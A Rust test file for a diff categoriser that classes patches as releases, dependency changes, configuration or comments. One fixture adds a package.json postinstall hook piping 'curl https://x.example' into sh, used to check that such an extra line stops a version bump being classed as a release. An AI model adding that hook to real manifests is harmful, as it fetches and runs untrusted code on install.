//! The release, tool-settings and comment-only refinements on real-looking patches.

use super::*;
use crate::agents::orchestrator::lines::parse;

fn file(path: &str) -> ChangedFile {
    ChangedFile {
        path: path.into(),
        old_path: None,
        status: "modified",
        additions: 1,
        deletions: 1,
        binary: false,
    }
}

fn refined(path: &str, by_path: Category, patch: &str) -> Category {
    let lines = parse(patch);
    refine(&file(path), by_path, lines.first())
}

#[test]
fn a_version_field_bump_is_a_release() {
    let cargo = "diff --git a/Cargo.toml b/Cargo.toml\n--- a/Cargo.toml\n+++ b/Cargo.toml\n@@ -1,4 +1,4 @@\n [package]\n name = \"greeter\"\n-version = \"0.1.0\"\n+version = \"0.2.0\"\n edition = \"2021\"\n";
    assert_eq!(
        refined("Cargo.toml", Category::Dependencies, cargo),
        Category::Release
    );
    let npm = "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -1,4 +1,4 @@\n {\n   \"name\": \"web\",\n-  \"version\": \"1.4.2\",\n+  \"version\": \"1.5.0\",\n   \"private\": true,\n";
    assert_eq!(
        refined("package.json", Category::Dependencies, npm),
        Category::Release
    );
    let python = "diff --git a/src/pkg/__init__.py b/src/pkg/__init__.py\n--- a/src/pkg/__init__.py\n+++ b/src/pkg/__init__.py\n@@ -1,3 +1,3 @@\n \"\"\"The package.\"\"\"\n-__version__ = \"2.31.0\"\n+__version__ = \"2.32.0\"\n";
    assert_eq!(
        refined("src/pkg/__init__.py", Category::Code, python),
        Category::Release
    );
}

#[test]
fn a_dependency_version_or_an_extra_line_is_not_a_release() {
    let dependency = "diff --git a/Cargo.toml b/Cargo.toml\n--- a/Cargo.toml\n+++ b/Cargo.toml\n@@ -8,3 +8,3 @@\n [dependencies.serde]\n-version = \"1.0.100\"\n+version = \"1.0.200\"\n features = [\"derive\"]\n";
    assert_eq!(
        refined("Cargo.toml", Category::Dependencies, dependency),
        Category::Dependencies
    );
    let lock = "diff --git a/Cargo.lock b/Cargo.lock\n--- a/Cargo.lock\n+++ b/Cargo.lock\n@@ -10,4 +10,4 @@\n [[package]]\n name = \"serde\"\n-version = \"1.0.200\"\n-checksum = \"aaaa\"\n+version = \"1.0.201\"\n+checksum = \"bbbb\"\n";
    assert_eq!(
        refined("Cargo.lock", Category::Dependencies, lock),
        Category::Dependencies
    );
    let registry = "diff --git a/Cargo.lock b/Cargo.lock\n--- a/Cargo.lock\n+++ b/Cargo.lock\n@@ -10,4 +10,4 @@\n [[package]]\n name = \"serde\"\n-version = \"1.0.200\"\n+version = \"1.0.201\"\n source = \"registry+https://github.com/rust-lang/crates.io-index\"\n";
    assert_eq!(
        refined("Cargo.lock", Category::Dependencies, registry),
        Category::Dependencies
    );
    let own = "diff --git a/Cargo.lock b/Cargo.lock\n--- a/Cargo.lock\n+++ b/Cargo.lock\n@@ -3,4 +3,4 @@\n [[package]]\n name = \"greeter\"\n-version = \"0.1.0\"\n+version = \"0.2.0\"\n dependencies = [\n";
    assert_eq!(
        refined("Cargo.lock", Category::Dependencies, own),
        Category::Release
    );
    let npm = "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -1,4 +1,5 @@\n {\n-  \"version\": \"1.4.2\",\n+  \"version\": \"1.5.0\",\n+  \"postinstall\": \"curl https://x.example | sh\",\n";
    assert_eq!(
        refined("package.json", Category::Dependencies, npm),
        Category::Dependencies
    );
}

#[test]
fn comment_only_code_changes_are_comments_and_code_stays_code() {
    let docs = "diff --git a/src/lib.rs b/src/lib.rs\n--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -3,3 +3,3 @@\n-/// Retrns the greeting.\n+/// Returns the greeting.\n pub fn hello() {}\n";
    assert_eq!(
        refined("src/lib.rs", Category::Code, docs),
        Category::Comments
    );
    let commented_out = "diff --git a/app/views.py b/app/views.py\n--- a/app/views.py\n+++ b/app/views.py\n@@ -3,3 +3,3 @@\n-    check_quota(user)\n+    # check_quota(user)\n     return render(user)\n";
    assert_eq!(
        refined("app/views.py", Category::Code, commented_out),
        Category::Code
    );
}

#[test]
fn tool_settings_in_a_manifest_are_configuration() {
    let pyright = "diff --git a/pyproject.toml b/pyproject.toml\n--- a/pyproject.toml\n+++ b/pyproject.toml\n@@ -118,3 +118,5 @@ testpaths = [\"tests\"]\n [tool.pyright]\n include = [\"src/requests\"]\n typeCheckingMode = \"strict\"\n+# linting rules unrelated to type checking\n+reportPrivateUsage = false\n";
    assert_eq!(
        refined("pyproject.toml", Category::Dependencies, pyright),
        Category::Config
    );
    let classifier = "diff --git a/pyproject.toml b/pyproject.toml\n--- a/pyproject.toml\n+++ b/pyproject.toml\n@@ -1,4 +1,5 @@\n [project]\n classifiers = [\n     \"Programming Language :: Python :: 3.14\",\n+    \"Programming Language :: Python :: 3.15\",\n";
    assert_eq!(
        refined("pyproject.toml", Category::Dependencies, classifier),
        Category::Config
    );
}

#[test]
fn dependency_tables_and_unseen_tables_stay_dependencies() {
    let extra = "diff --git a/pyproject.toml b/pyproject.toml\n--- a/pyproject.toml\n+++ b/pyproject.toml\n@@ -66,4 +66,5 @@\n [project.optional-dependencies]\n typecheck = [\n     \"pyright\",\n+    \"chardet\",\n";
    assert_eq!(
        refined("pyproject.toml", Category::Dependencies, extra),
        Category::Dependencies
    );
    let unseen = "diff --git a/pyproject.toml b/pyproject.toml\n--- a/pyproject.toml\n+++ b/pyproject.toml\n@@ -40,3 +40,3 @@\n     \"idna>=2.5,<4\",\n-    \"urllib3>=1.21.1,<3\",\n+    \"urllib3>=2,<3\",\n";
    assert_eq!(
        refined("pyproject.toml", Category::Dependencies, unseen),
        Category::Dependencies
    );
    let poetry = "diff --git a/pyproject.toml b/pyproject.toml\n--- a/pyproject.toml\n+++ b/pyproject.toml\n@@ -10,2 +10,2 @@\n [tool.poetry.dependencies]\n-asyncpg = \"^0.28\"\n+asyncpg = \"^0.29\"\n";
    assert_eq!(
        refined("pyproject.toml", Category::Dependencies, poetry),
        Category::Dependencies
    );
}
